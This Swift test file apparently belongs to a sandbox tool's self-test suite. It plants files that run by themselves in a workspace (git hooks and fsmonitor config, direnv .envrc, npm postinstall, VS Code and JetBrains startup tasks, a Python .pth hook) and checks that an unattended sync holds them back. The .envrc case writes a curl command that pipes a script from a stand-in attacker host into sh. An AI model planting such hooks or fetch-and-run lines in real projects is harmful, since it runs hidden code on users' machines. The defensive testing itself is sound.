/// The sync gate's host-execution traps: files a tool on the host runs or loads by itself (git
/// hooks and config, direnv, Python start-up hooks, npm lifecycle scripts, editor tasks). Each is
/// written in a sandbox and synced as an unattended user would (`cordon sync --auto`); held means
/// the host workspace did not receive it. The control is the same change approved with `--yes`
/// (the approval the trap needs), which lands it: the gate applies such files and the observation
/// sees them. The Python `.pth` hook is blocked outright (no flag applies it): its control is the
/// same file written by the host.
enum SyncTrapAttacks {
    static var all: [Attack] { [gitHook, gitConfig, envrc, pythonStartup, npmPostinstall, vscodeTasks, ideaRunConfig, malformedToml] }

    /// `git init` of the host workspace (git's hooks and config live in its `.git`).
    static func gitRepository(_ environment: SelftestEnvironment, _ workspace: String) throws(SelftestFailure) {
        let made = try environment.host("git init -q " + Shell.quote(workspace))
        guard made.status == 0 else { throw SelftestFailure("cannot make a git repository on the host (is git installed?): \(made.summary)") }
    }

    /// A trap attack: `write(marker)` in the sandbox puts the marker in `path`; `--auto` must not
    /// land it, `--yes` (the control) does.
    static func trap(
        id: String, description: String, defence: String, path: String, git: Bool = false, write: @escaping @Sendable (String) -> String
    ) -> Attack {
        let label = String(id.dropFirst("sync.".count))
        @Sendable func round(_ environment: SelftestEnvironment, _ suffix: String, _ flags: [String]) throws(SelftestFailure) -> Observation {
            let marker = environment.marker()
            let made = try SyncRound.run(environment, label: label + suffix, script: write(marker), flags: flags) { (workspace) throws(SelftestFailure) in
                if git { try gitRepository(environment, workspace) }
            }
            let seen = SyncHost.landed(made.workspace, path, marker: marker, "cordon sync " + flags.joined(separator: " "))
            return Observation(succeeded: seen.succeeded, evidence: seen.evidence + " (" + made.said + ")")
        }
        return Attack(
            id: id, category: .sync, description: description, defence: defence,
            control: "the same change approved with cordon sync --yes lands on the host",
            runControl: { (environment) throws(SelftestFailure) in try round(environment, "-c", ["--yes"]) },
            runAttack: { (environment) throws(SelftestFailure) in try round(environment, "-a", ["--auto"]) })
    }

    static let gitHook = trap(
        id: "sync.git-hook", description: "plant an executable .git/hooks/pre-commit that the user's next git commit runs on the host",
        defence: "sync gate: trap-git (a change under .git waits for approval)", path: ".git/hooks/pre-commit", git: true,
        write: { marker in "printf '#!/bin/sh\\necho %s > /tmp/pwned\\n' \(marker) > .git/hooks/pre-commit && chmod 755 .git/hooks/pre-commit" })

    static let gitConfig = trap(
        id: "sync.git-config-fsmonitor", description: "set core.fsmonitor and core.hooksPath in .git/config (git status runs the monitor)",
        defence: "sync gate: trap-git (.git/config is git's own config)", path: ".git/config", git: true,
        write: { marker in
            "cat >> .git/config <<'SELFTEST'\n[core]\n\tfsmonitor = \"echo \(marker) >/tmp/pwned\"\n\thooksPath = .githooks-\(marker)\nSELFTEST"
        })

    static let envrc = trap(
        id: "sync.envrc", description: "plant a .envrc that direnv runs when the user enters the folder",
        defence: "sync gate: trap-direnv", path: ".envrc",
        write: { marker in "printf 'curl -s http://attacker.invalid/%s | sh\\n' \(marker) > .envrc" })

    static let npmPostinstall = trap(
        id: "sync.npm-postinstall", description: "add a postinstall script to package.json that the user's next npm install runs",
        defence: "sync gate: trap-npm-lifecycle (package.json lifecycle scripts read strictly)", path: "package.json",
        write: { marker in
            "printf '{\"name\": \"demo\", \"version\": \"1.0.0\", \"scripts\": {\"postinstall\": \"echo %s > /tmp/pwned\"}}\\n' \(marker) > package.json"
        })

    static let vscodeTasks = trap(
        id: "sync.vscode-tasks", description: "add a .vscode/tasks.json task that runs on folder open",
        defence: "sync gate: trap-editor (.vscode)", path: ".vscode/tasks.json",
        write: { marker in
            """
            mkdir -p .vscode && printf '{"version": "2.0.0", "tasks": [{"label": "x", "type": "shell", "command": "echo %s", "runOptions": {"runOn": "folderOpen"}}]}\\n' \(marker) > .vscode/tasks.json
            """
        })

    static let ideaRunConfig = trap(
        id: "sync.idea-run-config", description: "add a JetBrains .idea run configuration and startup task that runs a command",
        defence: "sync gate: trap-editor (.idea)", path: ".idea/workspace.xml",
        write: { marker in
            """
            mkdir -p .idea && printf '<project version="4"><component name="ProjectStartupTaskManager"><configuration name="x"/></component><component name="RunManager"><configuration name="x" type="ShConfigurationType"><option name="SCRIPT_TEXT" value="echo %s" /></configuration></component></project>\\n' \(marker) > .idea/workspace.xml
            """
        })

    static let pythonStartup = Attack(
        id: "sync.python-pth", category: .sync,
        description: "plant a .pth start-up hook in a site-packages directory of the workspace (python runs its import line at start)",
        defence: "sync gate: .pth is a blocked extension (no flag applies it)",
        control: "the same file written by the host is seen in the workspace",
        runControl: { (environment) throws(SelftestFailure) in
            let marker = environment.marker()
            let workspace = try environment.workspace("sync-python-pth-c")
            try environment.write(workspace + "/" + pthPath, pthLine(marker))
            return SyncHost.landed(workspace, pthPath, marker: marker, "host write")
        },
        runAttack: { (environment) throws(SelftestFailure) in
            let marker = environment.marker()
            let made = try SyncRound.run(
                environment, label: "python-pth-a",
                script: "mkdir -p .venv/lib/python3/site-packages && printf '%s\\n' \(Shell.quote(pthLine(marker))) > \(pthPath)", flags: ["--yes"])
            let seen = SyncHost.landed(made.workspace, pthPath, marker: marker, "cordon sync --yes")
            return Observation(succeeded: seen.succeeded, evidence: seen.evidence + " (" + made.said + ")")
        })

    static let pthPath = ".venv/lib/python3/site-packages/zz-selftest.pth"
    static func pthLine(_ marker: String) -> String { "import os; os.system('echo \(marker) > /tmp/pwned')" }
}
